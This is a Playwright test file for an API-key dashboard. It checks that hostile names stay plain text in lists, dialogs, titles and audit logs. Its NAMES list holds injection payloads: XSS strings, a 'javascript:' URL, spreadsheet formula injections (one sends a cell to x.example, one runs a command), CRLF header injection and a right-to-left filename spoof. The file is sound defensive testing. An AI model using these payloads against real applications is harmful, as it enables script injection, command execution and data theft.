import type { Locator, Page } from "playwright-core";

import { OPERATOR } from "../support/start-app.js";
import { inChromium } from "./support/in-chromium.js";
import { soon } from "./support/soon.js";
import { TESTER } from "./support/tester.js";

const MARKUP_NAME = `<img src=x onerror=alert(1)>`;
const NAMES = [
  MARKUP_NAME,
  `"><script>alert(1)</script>`,
  `javascript:alert(1)`,
  `=HYPERLINK("http://x.example/?"&A1,"click")`,
  `=cmd|' /C calc'!A0`,
  `\u202Egnp.exe`,
  `%00%0d%0aSet-Cookie:a=b`,
  `__proto__`,
  `a”, and deleted everything, “b`,
  `👩‍👩‍👧 🔑 e\u0301`,
  `W`.repeat(100),
];

/** Within a sentence, a name can neither end its quotation nor turn around what follows. */
function quoted(name: string): string {
  return `“${name.replaceAll("”", '"').replace("\u202E", "\uFFFD")}”`;
}

/** What a name would become that was taken for markup. */
const MARKUP = `img, iframe, object, [onerror], [onload], a[href^="javascript:"], #root script`;

inChromium((stage) => {
  const idOf = new Map<string, string>();

  beforeAll(async () => {
    const inputs = NAMES.map((name) => ({ name, orgId: "acme", tags: [name.slice(0, 40)], role: "reader" }));
    for (const { key } of await stage.app.keyring.createMany(inputs, TESTER)) idOf.set(key.name, key.id);
    await stage.app.db("organizations").where({ id: "acme" }).update({ name: MARKUP_NAME });
  });

  it("are text in the list of keys, and can be searched for", async () => {
    const page = await stage.openAs(OPERATOR, "/dashboard/");
    await seeNames(page, expect.arrayContaining(NAMES) as string[]);
    await page.getByRole("cell", { name: MARKUP_NAME }).first().waitFor();
    await seeNoMarkup(page);

    for (const name of NAMES) {
      await page.getByRole("textbox", { name: "Search" }).fill(name);
      await seeNames(page, [name]);
    }
    await page.reload();
    await seeNames(page, NAMES.slice(-1));
  });

  it("are text in the window that asks before many keys are changed", async () => {
    const page = await stage.openAs(OPERATOR, "/dashboard/");
    await page.getByRole("checkbox", { name: "Choose all keys of this page" }).check();
    await page.getByRole("button", { name: /^Revoke \d+$/ }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByRole("listitem").first().waitFor();
    expect(await dialog.getByRole("listitem").allTextContents()).toEqual(expect.arrayContaining(NAMES));
    await seeNoMarkup(page);
  });

  it("are text on the page of the key, in its title, its history and its windows", async () => {
    const page = await stage.openAs(OPERATOR, "/dashboard/");
    for (const name of NAMES) {
      await page.goto(`/dashboard/keys/${idOf.get(name)}`);
      const history = page.getByRole("region", { name: "History" });
      expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe(name);
      await history.getByText("made this key").waitFor();
      expect(await history.textContent()).toContain(`made this key, ${quoted(name)}`);
      expect(await page.title()).toBe(`${name} · API keys`);

      await page.getByRole("button", { name: "Revoke" }).click();
      expect(await textOf(page.getByRole("dialog", { name: "Revoke the key" }))).toContain(name);
      await page.keyboard.press("Escape");
      await page.getByRole("button", { name: "Edit" }).click();
      const form = page.getByRole("dialog", { name: "Edit the key" });
      expect(await form.getByRole("textbox", { name: "Name" }).inputValue()).toBe(name);
      expect(await textOf(form)).toContain(name.slice(0, 40));
      await seeNoMarkup(page);
    }
  });

  it("are text in the record of changes and its details", async () => {
    const page = await stage.openAs(OPERATOR, "/dashboard/audit");
    const changes = page.getByRole("list", { name: "Changes" });
    for (const name of NAMES) {
      const entry = changes.getByRole("listitem").filter({ hasText: idOf.get(name) ?? "" });
      expect(await textOf(entry)).toContain(quoted(name));
      await entry.getByRole("button", { name: "Details" }).click();
      await entry.getByRole("row", { name: "Tags" }).waitFor();
      expect(await entry.getByRole("row", { name: "Tags" }).textContent()).toContain(name.slice(0, 40));
    }
    await seeNoMarkup(page);
  });

  it("are text as the names of people, of roles and as reasons", async () => {
    const name = MARKUP_NAME;
    const { keyring, db } = stage.app;
    await keyring.roles.create(
      { name: "strange", description: name, orgId: "acme", permissions: [] },
      TESTER,
    );
    await db("users").where({ email: OPERATOR.email }).update({ name });
    const { key } = await keyring.create({ name: "Short-lived", role: "reader" }, TESTER);

    const page = await stage.openAs(OPERATOR, "/dashboard/roles");
    await page.getByRole("article").getByText(name, { exact: true }).first().waitFor();
    await page.getByRole("button", { name, exact: true }).waitFor();
    await page.request.delete(`/admin/keys/${key.id}`, { params: { reason: name } });
    await page.getByRole("link", { name: "Audit" }).click();
    const changes = page.getByRole("list", { name: "Changes" });
    expect(await textOf(changes)).toContain(`${name} revoked the key ${key.id}: “${name}”`);
    await seeNoMarkup(page);
  });
});

function seeNames(page: Page, names: readonly string[]): Promise<void> {
  return soon(
    () => page.getByRole("table").getByRole("link").allTextContents(),
    (shown) => expect(shown).toEqual(names),
  );
}

async function textOf(part: Locator): Promise<string> {
  await part.waitFor();
  return (await part.textContent()) ?? "";
}

async function seeNoMarkup(page: Page): Promise<void> {
  expect(await page.locator(MARKUP).evaluateAll((found) => found.map(({ outerHTML }) => outerHTML))).toEqual(
    [],
  );
}
